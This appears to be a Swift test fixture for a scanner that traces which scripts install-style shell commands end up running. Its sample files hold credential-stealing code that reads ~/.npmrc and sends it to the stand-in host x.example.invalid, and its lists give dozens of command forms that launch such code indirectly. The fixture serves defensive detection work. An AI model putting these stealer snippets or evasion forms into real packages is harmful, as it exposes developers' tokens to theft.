import SallyportAnalysis
import Testing

/// Forms of commands behind which code hides: each runs `steal.js`, `steal.py`, `lib/steal.js`, `steal.sh` or text.
enum CommandFormAttacks {
    static let files = [
        "steal.js": #"""
        const t = require('fs').readFileSync(process.env.HOME + '/.npmrc');
        require('https').request({host: 'x.example.invalid', method: 'POST'}).end(t);
        """#,
        "lib/steal.js": "require('../steal');",
        "steal.sh": "#!/bin/sh\ncurl -d @$HOME/.npmrc https://x.example.invalid\n",
        "run-it": "#!/bin/sh\ncurl -d @$HOME/.npmrc https://x.example.invalid\n",
        "Makefile": "all:\n\t@curl -d @$HOME/.npmrc https://x.example.invalid\n",
        "folder/package.json": "{\"main\":\"deep/steal.js\"}", "folder/deep/steal.js": "require('../../steal.js');",
        "own.js": "import '#hidden';", "self.js": "require('sample/steal');",
        "work.js": "const { Worker } = require('worker_threads'); new Worker('./steal.js');",
        "data.js": "eval(require('fs').readFileSync(require('path').join(__dirname, 'NOTICE.txt'), 'utf8'));",
        "NOTICE.txt": "require('./steal.js')",
        "cwd.js": "require('child_process').execSync('node lib-only.js', { cwd: __dirname + '/deep/er' });",
        "deep/er/lib-only.js": "require('../../steal.js');",
        "tool/__main__.py":
            "import urllib.request as u\nu.urlopen('https://x.example.invalid', open('/root/.npmrc').read())\n",
        "evil.py": "import urllib.request as u\nu.urlopen('https://x.example.invalid', open('/root/.npmrc').read())\n",
    ]

    /// Followed to what they run.
    static let followed = [
        "node --require ./steal.js x.js", "node --require=./steal.js -v", "node --import=./steal.js x.js",
        "node --title x steal.js", "NODE_OPTIONS='--require ./steal.js' node -v", "env A=1 node steal.js",
        "/usr/bin/env node steal.js", "timeout 5 node steal.js", "timeout -k 9 5s node steal.js",
        "nohup node steal.js &", "nice -n 5 node steal.js", "true && false || node steal.js",
        "echo $(node steal.js)", "echo `node steal.js`", "cd lib && node steal.js", "cd lib; cd ..; node lib/steal.js",
        "(cd lib && node ./steal)", "sh -c 'cd lib && node steal.js'", "bash -o pipefail steal.sh", "sh +e steal.sh",
        "bash -c -e 'node steal.js'", "find . -name x -exec node steal.js ';'",
        "find . -exec sh -c 'node steal.js' \\;",
        "ls | xargs node steal.js", "sh < steal.sh", "cat steal.js | node", "cat steal.sh | sh -s",
        "node <<< 'require(\"./steal\")'",
        "sh <<X\nnode steal.js\nX", "node <<X\nrequire('./steal')\nX", "echo 'node steal.js' | sh",
        "python3 -c'import evil'", "python3 -Bc 'import evil'", "python3 -mevil", "python3 -W ignore evil.py",
        "node --eval=\"require('./steal')\"", "node --print=\"require('./steal')\"", "node -p \"require('./steal')\"",
        "node -pe \"require('./steal')\"", "npx -c 'node steal.js'", "npm exec -- node steal.js", "yarn node steal.js",
        "concurrently \"node steal.js\" \"echo b\"", "dotenv -- node steal.js", "busybox sh steal.sh", "make",
        "make -C .",
        "setup-it", "sh ./st*l.sh", "sh ./st?al.sh", "node ./{steal,x}.js", "BASH_ENV=./steal.sh bash x",
        "deno eval \"require('./steal')\"", "NODE_PATH=. node x", "./run-it", ". ./steal.sh", "eval 'node steal.js'",
        "npm install && echo", "node folder", "node -e \"require('./folder')\"", "node own.js", "node self.js",
        "node work.js", "python tool", "python -m tool", "node data.js", "node cwd.js",
        "cd \"$(pwd)/deep/er\" && node lib-only.js", "xvfb-run -s x node steal.js",
    ]

    /// Held, because what runs can't be read.
    static let held = [
        "perl -e 'system(1)'", "php -r '1;'", "perl steal.pl", "lua x.lua", "osascript -e 'x'",
        "find . -name '*.js' -exec node {} \\;", "ls | xargs sh", "ls | sh", "./decode x | node",
        "node --import=data:text/javascript,x y.js", "$A$B x", "%X% y", "npm --prefix lib run x", "cd lib && npm run x",
        "cd lib && npm install", "npm install ./lib", "npm i https://x.example.invalid/x.tgz", "npm install owner/name",
        "cd $A && node x.js", "node /tmp/x.js", "PATH=.:$PATH x", "awk 'BEGIN{system(\"x\")}'", "PERL5OPT=-Mx perl -v",
        "powershell -File x.ps1",
    ]

    /// Honest, and quiet.
    static let honest = [
        "node -v", "perl --version", "node scripts/a.js || exit 0", "npm run build", "echo a | cat", "husky install",
        "find . -name x -delete", "ls | xargs rm -f", "patch-package", "node-gyp rebuild", "is-ci || husky install",
        "prebuild-install || node-gyp rebuild", "opencollective-postinstall || true",
        "cross-env NODE_ENV=production node a",
        "$npm_execpath run build", "npm rebuild --update-binary", "node ./x >/dev/null 2>&1", "cd lib && tsc",
        "npm install",
        "npm install left-pad@^1.0.0 @a/b --no-save", "awk '{print $1}' x", "tsc && cp a b", "[ -d lib ] || npm run x",
        "PATH=$PATH:./node_modules/.bin tsc", "cat a < b", "test -f x && node x || true",
    ]
}
